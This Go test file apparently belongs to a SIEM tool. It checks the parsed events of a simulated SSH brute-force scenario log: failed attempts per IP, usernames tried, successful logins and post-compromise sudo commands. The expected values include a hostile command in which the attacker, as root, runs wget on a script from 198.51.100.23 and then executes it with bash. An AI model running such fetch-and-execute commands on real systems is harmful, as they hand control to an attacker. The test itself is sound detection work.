package sshd

import (
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/vigil-siem/vigil/event"
)

// TestScenarioSSHBruteForce checks the demo scenario
// testdata/scenarios/ssh-bruteforce/auth.log against the counts its
// README states.
func TestScenarioSSHBruteForce(t *testing.T) {
	path := filepath.Join("..", "..", "..", "testdata", "scenarios", "ssh-bruteforce", "auth.log")
	// Read in January: the December lines belong to the year before.
	events := parseFile(t, path, time.Date(2027, 1, 3, 0, 0, 0, 0, time.UTC))
	if len(events) != 318 {
		t.Errorf("got %d events, want the README's 318 lines", len(events))
	}
	failures := map[string]int64{}
	tried := map[string]map[string]bool{}
	hostOf := map[string]map[string]bool{}
	var successes []string
	hosts := map[string]int{}
	for i, e := range events {
		if e["event.kind"] != "event" {
			t.Fatalf("line %d flagged: %v: %s", i+1, e[event.FieldParseError], e[event.FieldOriginal])
		}
		ts, _ := e.Time()
		if ts.Year() != 2026 || ts.Month() != time.December || ts.Day() != 10 {
			t.Errorf("line %d: @timestamp %v, want Dec 10 2026", i+1, e[event.FieldTimestamp])
		}
		hosts[e.String("host.name")]++
		if e["event.action"] != ActionLogin {
			continue
		}
		ip, user := e.String("source.ip"), e.String("user.name")
		if e["event.outcome"] == "success" {
			successes = append(successes, user+"@"+ip+"@"+e.String("host.name"))
			continue
		}
		n := int64(1)
		if r, ok := e[event.FieldRepeat].(int64); ok {
			n = r
		}
		failures[ip] += n
		if tried[ip] == nil {
			tried[ip], hostOf[ip] = map[string]bool{}, map[string]bool{}
		}
		tried[ip][user] = true
		hostOf[ip][e.String("host.name")] = true
	}
	if hosts["web-01"] != 210 || hosts["bastion-01"] != 108 || len(hosts) != 2 {
		t.Errorf("lines per host = %v, want web-01 210, bastion-01 108", hosts)
	}
	wantFailures := map[string]int64{"203.0.113.45": 40, "198.51.100.23": 15, "10.20.0.22": 1}
	if len(failures) != len(wantFailures) {
		t.Errorf("failures per source = %v, want %v", failures, wantFailures)
	}
	for ip, n := range wantFailures {
		if failures[ip] != n {
			t.Errorf("failed attempts from %s = %d, want %d", ip, failures[ip], n)
		}
	}
	if got := keys(tried["203.0.113.45"]); got != "admin,oracle,root,test,ubuntu" {
		t.Errorf("users tried by 203.0.113.45 = %s", got)
	}
	if got := keys(hostOf["203.0.113.45"]) + " " + keys(hostOf["198.51.100.23"]); got != "bastion-01 web-01" {
		t.Errorf("hosts attacked = %s, want bastion-01 web-01", got)
	}
	sort.Strings(successes)
	want := []string{
		"alice@10.20.0.15@bastion-01", "alice@10.20.0.15@web-01", "alice@10.20.0.15@web-01",
		"alice@10.20.0.15@web-01", "bob@10.20.0.22@web-01", "deploy@198.51.100.23@web-01",
	}
	if strings.Join(successes, " ") != strings.Join(want, " ") {
		t.Errorf("successful logins = %v, want %v", successes, want)
	}
	// What deploy ran as root after the break-in.
	var commands []string
	for _, e := range events {
		if e["event.action"] == ActionSudo && e["user.name"] == "deploy" {
			commands = append(commands, e.String("user.effective.name")+": "+e.String("process.command_line"))
		}
	}
	wantCmds := "root: /usr/bin/wget -q http://198.51.100.23/x.sh -O /tmp/x.sh|root: /bin/bash /tmp/x.sh"
	if strings.Join(commands, "|") != wantCmds {
		t.Errorf("deploy's sudo commands = %q", commands)
	}
}

func keys(m map[string]bool) string {
	var s []string
	for k := range m {
		s = append(s, k)
	}
	sort.Strings(s)
	return strings.Join(s, ",")
}
